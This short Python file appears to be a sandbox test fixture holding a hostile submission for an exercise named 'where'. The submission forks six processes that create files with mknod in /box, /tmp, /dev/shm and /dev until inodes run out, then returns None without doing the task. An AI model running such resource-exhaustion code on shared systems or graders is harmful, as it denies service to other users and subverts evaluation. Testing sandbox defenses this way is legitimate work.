"""Takes every inode of the folders that it may write to, by six processes of mknod, and leaves nothing for neighbours."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os


def take(number):
    places = ["/box", "/tmp", "/dev/shm", "/dev"]
    made = 0
    while places:
        for place in list(places):
            try:
                os.mknod(f"{place}/{number}-{made}")
            except OSError:
                places.remove(place)
        made += 1


takers = []
for number in range(6):
    taker = os.fork()
    if taker == 0:
        try:
            take(number)
        finally:
            os._exit(0)
    takers.append(taker)
for taker in takers:
    os.waitpid(taker, 0)


def where(tensor):
    return None
""",
)
